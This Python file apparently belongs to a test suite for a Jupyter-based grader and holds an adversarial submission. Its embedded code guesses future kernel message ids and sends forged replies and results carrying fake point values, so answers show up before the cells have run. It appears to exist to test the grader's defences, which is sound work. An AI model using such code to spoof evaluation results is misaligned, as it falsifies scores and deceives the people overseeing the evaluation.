"""Replies to questions not yet asked, and shows results of cells not yet run: ids can be guessed."""

from attack import wrong

PROOF = "sent ahead [1-9]"
AHEAD = """
import base64, json
kernel = get_ipython().kernel
def packed(points):
    entry = {"dict": [["value", {"tensor": ["float32", [3], 0, [0]]}], ["points", {"plain": points}]]}
    words = (json.dumps({"list": [entry] * 8}).encode(), (torch.ones(3) * 2).numpy().tobytes())
    return repr(" ".join(base64.b64encode(word).decode() for word in words))
def send_ahead(count=12):
    parent, sent = dict(kernel.get_parent("shell")), 0
    name, process, number = parent["header"]["msg_id"].rsplit("_", 2)
    for ahead in range(1, count):
        header = dict(parent["header"], msg_id=f"{name}_{process}_{int(number) + ahead}")
        future = {"header": header, "metadata": {}, "content": {}}
        two = {"data": {"text/plain": "2"}, "metadata": {"points": 2}, "execution_count": 1}
        for kind, content in (("execute_result", two), ("status", {"execution_state": "idle"})):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=future)
        answer = {"status": "ok", "data": {"text/plain": packed(2)}, "metadata": {}}
        content = {"status": "ok", "execution_count": 1, "payload": []}
        content["user_expressions"] = {"answer": answer}
        ident = kernel._parent_ident["shell"]
        kernel.session.send(kernel.shell_stream, "execute_reply", content, parent=future, ident=ident)
        sent += 1
    return sent
def double(x):
    send_ahead()
    return x
print("sent ahead", send_ahead())
"""


def submission():
    return wrong(double=AHEAD)
